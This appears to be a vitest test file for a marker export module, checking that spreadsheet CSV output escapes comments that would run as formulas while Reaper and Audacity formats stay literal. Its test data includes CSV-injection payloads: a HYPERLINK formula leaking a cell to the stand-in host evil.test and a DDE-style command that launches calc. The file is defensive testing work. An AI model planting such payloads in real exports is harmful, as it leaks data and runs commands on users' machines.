import { describe, expect, it } from 'vitest';
import type { Marker } from './marker';
import { audacityLabels, plainCsvMarkers, reaperMarkers } from './text-markers';

const at = (start: number, author: string, text: string): Marker => ({
  start,
  end: null,
  author,
  text,
  replies: 0,
  resolved: false,
});

/** Comments a spreadsheet would run as formulas, and one it would not. */
const MARKERS = [
  at(1, 'vic', '=HYPERLINK("http://evil.test/?leak="&A1,"Open")'),
  at(2, 'vic', "@SUM(1+1)*cmd|' /C calc'!A0"),
  at(3, '=cmd', '+1 dB on the vocal'),
  at(4, 'vic', '-3 dB at the bridge'),
  at(5, 'vic', '\t=1+1'),
  at(6, 'vic', 'Fine: a = b + c'),
];

/** Splits one CSV record into its fields (RFC 4180 quoting). */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let current = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      current += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ',' && !quoted) {
      fields.push(current);
      current = '';
    } else current += c;
  }
  return [...fields, current];
}

describe('the spreadsheet CSV of markers', () => {
  it('gives a cell that would run as a formula (= + - @, tab) the quote that makes it text', () => {
    const rows = plainCsvMarkers(MARKERS).trimEnd().split('\r\n').slice(1).map(fieldsOf);
    expect(rows.map((row) => [row[2], row[3]])).toEqual([
      ['vic', '\'=HYPERLINK("http://evil.test/?leak="&A1,"Open")'],
      ['vic', "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ["'=cmd", "'+1 dB on the vocal"],
      ['vic', "'-3 dB at the bridge"],
      ['vic', "'\t=1+1"],
      ['vic', 'Fine: a = b + c'],
    ]);
    // Times stay numbers a spreadsheet can add up.
    expect(rows.map((row) => row[0])).toEqual(['1.000', '2.000', '3.000', '4.000', '5.000', '6.000']);
  });

  it('a comment starting with a carriage return is text too', () => {
    const [, row] = plainCsvMarkers([at(1, 'vic', '\r=1+1')]).split('\r\n');
    expect(row).toBe('1.000,,vic,"\'\r=1+1",0,no');
  });

  it('leaves the DAW formats exact: Reaper and Audacity read marker names literally', () => {
    const reaper = reaperMarkers(MARKERS).split('\r\n');
    expect(fieldsOf(reaper[1]!)[1]).toBe('vic: =HYPERLINK("http://evil.test/?leak="&A1,"Open")');
    expect(fieldsOf(reaper[3]!)[1]).toBe('=cmd: +1 dB on the vocal');
    const labels = audacityLabels(MARKERS).split('\n');
    expect(labels[1]!.split('\t')[2]).toBe("vic: @SUM(1+1)*cmd|' /C calc'!A0");
  });
});
